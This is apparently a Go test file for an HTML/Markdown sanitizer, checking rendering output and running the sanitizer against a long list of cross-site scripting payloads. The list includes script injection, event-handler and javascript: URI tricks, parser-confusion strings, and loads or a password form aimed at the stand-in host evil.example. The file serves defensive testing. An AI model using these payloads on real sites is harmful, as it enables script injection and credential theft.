package content

import (
	"strings"
	"testing"
	"testing/quick"

	"golang.org/x/net/html"

	"lyceum/shared/domain"
	"lyceum/shared/domain/fault"
)

func TestRender(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ what, kind, source, want string }{
		{"headings and text", domain.Markdown, "# A & B\n\nText *so* `x<y`.\n", "<h1 id=\"h-a--b\">A &amp; B</h1>\n<p>Text <em>so</em> <code>x&lt;y</code>.</p>\n"},
		{"code keeps its language", domain.Markdown, "```go\na := \"b\"\n```\n", "<pre><code class=\"language-go\">a := &#34;b&#34;\n</code></pre>\n"},
		{"tables", domain.Markdown, "|a|b|\n|-|-:|\n|1|2|\n", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n"},
		{"links", domain.Markdown, "[a](/b \"t\") https://x.org ~~c~~", "<p><a href=\"/b\" title=\"t\">a</a> <a href=\"https://x.org\" rel=\"noreferrer\">https://x.org</a> <del>c</del></p>\n"},
		{"pictures", domain.HTML, `<img src="/a.png" alt="A" width="10">`, `<img src="/a.png" alt="A" width="10">`},
		{"HTML in Markdown", domain.Markdown, "<details open><summary>Q</summary>A</details>", "<details open=\"\"><summary>Q</summary>A</details>"},
		{"directions and languages", domain.HTML, `<p dir="rtl" lang="ar">سلام</p>`, `<p dir="rtl" lang="ar">سلام</p>`},
		{"lists that do not begin with one", domain.Markdown, "3. a\n4. b\n", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"},
		{"lists of tasks", domain.Markdown, "- [x] a\n- [ ] b\n", "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> a</li>\n<li><input disabled=\"\" type=\"checkbox\"> b</li>\n</ul>\n"},
		{"footnotes", domain.Markdown, "a[^n]\n\n[^n]: b\n", "<p>a<sup id=\"fnref:1\"><a href=\"#fn:1\" class=\"footnote-ref\" role=\"doc-noteref\">1</a></sup></p>\n" +
			"<div class=\"footnotes\" role=\"doc-endnotes\">\n<hr>\n<ol>\n<li id=\"fn:1\">\n<p>b\u00a0<a href=\"#fnref:1\" class=\"footnote-backref\" role=\"doc-backlink\">↩︎</a></p>\n</li>\n</ol>\n</div>\n"},
		{"headings have anchors", domain.Markdown, "## *Größe* `x`\n## 学 学\n## 学 学\n[up](#größe-x)\n",
			"<h2 id=\"h-größe-x\"><em>Größe</em> <code>x</code></h2>\n<h2 id=\"h-学-学\">学 学</h2>\n<h2 id=\"h-学-学-1\">学 学</h2>\n<p><a href=\"#h-gr%C3%B6%C3%9Fe-x\">up</a></p>\n"},
		{"cells that span", domain.HTML, `<table><tr><td colspan="2" rowspan="3">a</td></tr></table>`, `<table><tr><td colspan="2" rowspan="3">a</td></tr></table>`},
		{"players", domain.HTML, `<iframe src="https://www.youtube-nocookie.com/embed/a-b_1" title="T" allowfullscreen></iframe>`,
			`<iframe src="https://www.youtube-nocookie.com/embed/a-b_1" title="T" allowfullscreen=""></iframe>`},
		{"films", domain.HTML, `<video controls width="320"><source src="a.mp4" type="video/mp4"></video>`, `<video controls="" width="320"><source src="a.mp4" type="video/mp4"></video>`},
		{"Markdown in HTML stays", domain.HTML, "# no *heading*", "# no *heading*"},
		{"control characters go", domain.HTML, "<p>a\x00\x01\x1b\x7fb\t\n</p>", "<p>ab\t\n</p>"},
		{"all scripts", domain.HTML, "<p>學 мир \U0001f468\u200d\U0001f469</p>", "<p>學 мир \U0001f468\u200d\U0001f469</p>"},
	} {
		t.Run(c.what, func(t *testing.T) {
			t.Parallel()
			got, _, err := render(c.kind, []byte(c.source))
			if err != nil || string(got) != c.want {
				t.Errorf("got  %q (%v)\nwant %q", got, err, c.want)
			}
		})
	}
	for what, c := range map[string]struct {
		source string
		want   *fault.Error
	}{
		"nothing": {"", domain.ErrContentEmpty}, "blanks": {" \r\n", domain.ErrContentEmpty}, "broken UTF-8": {"a\xff", domain.ErrContentEncoding},
		"too much":      {strings.Repeat("a", domain.MaxContentBytes+1), domain.ErrContentTooLarge},
		"too much HTML": {strings.Repeat(`"`, domain.MaxContentBytes), domain.ErrContentTooLarge},
	} {
		if _, _, err := render(domain.HTML, []byte(c.source)); err == nil || fault.As(err).Code != c.want.Code {
			t.Errorf("%s: %v, want %v", what, err, c.want)
		}
	}
}

// attacks are ways to make a browser run or load something that is not the platform's.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\x00>alert(1)</script>",
	`<img src=x onerror=alert(1)>`, `<img src=x oNeRrOr = "alert(1)">`, `<p onclick="alert(1)" onmouseover='alert(1)'>x</p>`, `<body onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" jAvAsCrIpT:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;avascript&colon;alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="javascript:alert(1)">`, `<img srcset="javascript:alert(1) 1x">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<style>@import "//evil.example/x.css";</style>`, `<p style="background:url(javascript:alert(1))">x</p>`, `<p style="position:fixed;inset:0">x</p>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`,
	`<iframe src="//evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="//evil.example/x.swf"></object>`,
	`<embed src="//evil.example/x.swf">`, `<applet code=x></applet>`, `<frameset><frame src="//evil.example"></frameset>`,
	`<form action="//evil.example"><input name=password><button>x</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<input autofocus onfocus=alert(1)>`, `<video src=x onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<video poster="javascript:alert(1)">`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
	`<p id="location" name="forms">x</p>`, `<img name="getElementById" src="/a">`, `<a href="//evil.example" target="_blank">x</a>`,
	`<img """><script>alert(1)</script>">`, `<<script>alert(1);//<</script>`, `<img src="x` + "`" + `onerror=alert(1)">`, `<img/src/onerror=alert(1)>`,
	`<p title="a" title="b" onclick=alert(1)`, `<details ontoggle=alert(1) open>x</details>`, `<code class="language-go onclick=x"">x</code>`,
	`<code class='language-"><script>alert(1)</script>'>x</code>`, `<table background="javascript:alert(1)"><td background="javascript:alert(1)">`,
	`<isindex action="javascript:alert(1)" type=image>`, `<marquee onstart=alert(1)>x</marquee>`, `<portal src="//evil.example">`, `<p is="x-evil">x</p>`,
	`[x](javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](data:text/html,<script>alert(1)</script>)`, `![x](javascript:alert(1))`,
	`<javascript:alert(1)>`, "[x]: javascript:alert(1)\n\n[x]", "```\"><script>alert(1)</script>\nx\n```", `[x](/a "onclick=alert(1)")`, `[x](/a"onclick="alert(1))`,
	"`<script>`alert(1)`</script>`", "[<script>alert(1)</script>](/x)", "# <img src=x onerror=alert(1)>", "|<script>|\n|-|\n|</script>|",
}

func TestNothingRunsAndNothingStrangeIsLoaded(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		for _, kind := range []string{domain.Markdown, domain.HTML} {
			for _, around := range []string{"%", "<p>%</p>", "<b title='", "\n\n%\n\n<!--", "* %", "> %", "<table><tr><td>%"} {
				source := strings.ReplaceAll(around, "%", attack)
				if !strings.Contains(around, "%") {
					source = around + attack
				}
				judge(t, kind, source)
			}
		}
	}
}

// judge reads the HTML as browsers do, and holds every element and attribute to a list of its own.
func judge(t *testing.T, kind, source string) {
	t.Helper()
	safe, _, err := render(kind, []byte(source))
	if err != nil {
		return
	}
	root, err := html.Parse(strings.NewReader("<!DOCTYPE html><html><head></head><body><main>" + string(safe)))
	if err != nil {
		t.Fatal(err)
	}
	for node := range root.Descendants() {
		if node.Type != html.ElementNode {
			continue
		}
		if !strings.Contains(elements, " "+node.Data+" ") || node.Namespace != "" {
			t.Errorf("%s %q becomes %q with the element %s", kind, source, safe, node.Data)
		}
		for _, a := range node.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			scheme, _, colon := strings.Cut(value, ":")
			switch {
			case a.Namespace != "" || !strings.Contains(attributes, " "+a.Key+" "):
				t.Errorf("%s %q becomes %q with the attribute %s", kind, source, safe, a.Key)
			case (a.Key == "href" || a.Key == "src") && colon && !strings.ContainsAny(scheme, "/?#") && scheme != "http" && scheme != "https" && scheme != "mailto":
				t.Errorf("%s %q becomes %q with a link to %q", kind, source, safe, a.Val)
			case node.Data == "iframe" && a.Key == "src" && !strings.HasPrefix(a.Val, "https://www.youtube") && !strings.HasPrefix(a.Val, "https://player.vimeo.com/"),
				a.Key == "id" && !strings.HasPrefix(a.Val, "h-") && !strings.HasPrefix(a.Val, "fn"),
				a.Key == "class" && !strings.HasPrefix(value, "language-") && !strings.HasPrefix(value, "footnote"), a.Key == "rel" && value != "noreferrer":
				t.Errorf("%s %q becomes %q with %s=%q", kind, source, safe, a.Key, a.Val)
			}
		}
	}
}

const (
	elements = " html head body main h1 h2 h3 h4 h5 h6 p br hr blockquote pre code em strong b i u s del ins sub sup kbd samp var mark small abbr dl dt dd " +
		"div input video audio source iframe figure figcaption details summary ul ol li table thead tbody tfoot tr td th caption col colgroup a img "
	attributes = " class dir lang title open href src alt width height rel align valign colspan rowspan headers scope abbr type value start span summary nowrap char charoff " +
		"id role checked disabled controls allowfullscreen sandbox reversed "
)

func TestWhatIsSafeStaysSo(t *testing.T) {
	t.Parallel()
	once := func(text string) bool {
		safe, _, err := render(domain.HTML, []byte(strings.ToValidUTF8(text, "")))
		if err != nil {
			return true
		}
		twice, _, err := render(domain.HTML, safe)
		return err != nil || string(twice) == string(safe)
	}
	if err := quick.Check(once, nil); err != nil {
		t.Error(err)
	}
	for _, attack := range attacks {
		if !once(attack) {
			t.Errorf("%q changes when it is made safe again", attack)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack, true)
		f.Add(attack, false)
	}
	f.Fuzz(func(t *testing.T, source string, markdown bool) {
		kind := domain.HTML
		if markdown {
			kind = domain.Markdown
		}
		judge(t, kind, source)
	})
}

func TestWhatFallsAwayIsNamed(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		`<p>a</p>`:                           "",
		`<p style="a:b" onclick=x>a</p>`:     "onclick of p, style of p",
		`a<iframe src=https://evil.example>`: "iframe",
		`<form action=/x>a<b>b</b></form><img src="data:image/png;base64,x">`: "form, img",
	} {
		_, fell, err := render(domain.HTML, []byte(source))
		if got := strings.Join(fell, ", "); err != nil || got != want {
			t.Errorf("%s: got %q (%v), want %q", source, got, err, want)
		}
	}
	for _, source := range []string{`<iframe src="https://evil.example/embed/1"></iframe>`, `<script>x</script>`, `<p> &nbsp;<br></p>`, `<form></form>`} {
		if safe, _, err := render(domain.HTML, []byte(source)); err == nil || fault.As(err).Code != "lesson.content_nothing_left" {
			t.Errorf("%s becomes %q (%v)", source, safe, err)
		}
	}
}
